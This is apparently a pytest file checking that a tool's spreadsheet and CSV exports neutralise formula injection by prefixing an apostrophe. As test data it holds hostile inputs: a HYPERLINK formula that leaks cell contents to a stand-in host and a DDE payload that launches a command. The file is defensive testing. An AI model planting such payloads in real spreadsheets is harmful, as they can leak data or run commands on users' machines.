"""Formula-like text is neutralised in every spreadsheet export (read back with openpyxl and csv)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.accounts import LOCAL_OPERATOR
from assistant.ratings import ProposalRater, ProposalText, write_workbook
from assistant.security.spreadsheet import safe_cell, safe_row
from assistant.staff.export import write_csv, write_xlsx
from assistant.staff.models import TriageReport, TriageRow

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["关于增设母婴室的建议", "", "a=b", 42, -3, 2.5, None, True])
def test_other_values_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_row() -> None:
    assert safe_row(["=1", 1, "x"]) == ["'=1", 1, "x"]


def _report() -> TriageReport:
    rows = [TriageRow(seq=1, line=2, title=HOSTILE, text="@cmd|' /C calc'!A0", main_unit="-2+3")]
    return TriageReport(file_name="c.csv", batch_id=1, rows=rows, read=1, imported=1, in_scope=1, out_of_scope=0,
                        failed=0, duplicate_groups=0, seconds=0.0)


def _formulas(path: Path) -> list[str]:
    book = load_workbook(path)  # not read-only: data_type tells formula from text
    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_triage_xlsx_and_csv_hold_text_not_formulas(tmp_path: Path) -> None:
    xlsx = write_xlsx(_report(), tmp_path / "r.xlsx")
    assert _formulas(xlsx) == []
    row = [c.value for c in load_workbook(xlsx).active[2]]
    assert row[3] == "'" + HOSTILE and row[4] == "'@cmd|' /C calc'!A0" and row[9] == "'-2+3"
    with (write_csv(_report(), tmp_path / "r.csv")).open(encoding="utf-8-sig", newline="") as handle:
        cells = list(csv.reader(handle))[1]
    assert cells[3] == "'" + HOSTILE and all(not c.startswith(("=", "+", "-", "@")) for c in cells)


def test_ratings_workbook_holds_text_not_formulas(tmp_path: Path) -> None:
    proposal = ProposalText(id="=1+1", title=HOSTILE, analysis=["现状"], suggestions=["建议"], source="@x")
    out = write_workbook(ProposalRater(None).rate(LOCAL_OPERATOR, [proposal], shortlist=1), tmp_path / "ratings.xlsx")
    assert _formulas(out) == []
    sheet = load_workbook(out)["排名"]
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, (c.value for c in sheet[2]), strict=True))
    assert values["标题"] == "'" + HOSTILE and values["编号"] == "'=1+1" and values["来源"] == "'@x"
    assert isinstance(values["规则总分"], int)  # numbers stay numbers
